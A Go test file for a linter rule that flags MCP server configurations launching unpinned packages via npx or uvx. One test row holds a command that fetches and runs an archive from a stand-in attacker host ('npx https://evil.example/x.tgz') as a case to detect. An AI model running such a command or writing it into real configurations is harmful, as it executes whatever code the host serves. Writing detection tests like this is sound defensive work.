package loader

import (
	"testing"
)

func TestUnpinnedRunner(t *testing.T) {
	checkRows(t, "unpinned-runner", Options{}, nil, []ruleRow{
		{name: "npx", head: "mcp: {s: {command: npx, args: [-y, \"@acme/server\"]}}", want: "4:20", says: `"@acme/server"`, why: "at the command"},
		{name: "line", head: "mcp-s: uvx server", want: "4:8", why: "at the line"},
		{name: "pinned", head: "mcp-s: npx -y @acme/server@1.2.3", why: "one version"},
		{name: "an archive", head: "mcp-s: npx https://evil.example/x.tgz", want: "4:8", says: `runs what stands at "https://evil.example/x.tgz" on that day`, why: "another may stand there tomorrow"},
		{name: "an archive of a version", head: "mcp-s: npx https://registry.npmjs.org/x/-/x-1.2.3.tgz", why: "one version"},
		{name: "cmd", head: "mcp-s: cmd /c npx -y server", want: "4:8", why: "it is npx"},
	})
}
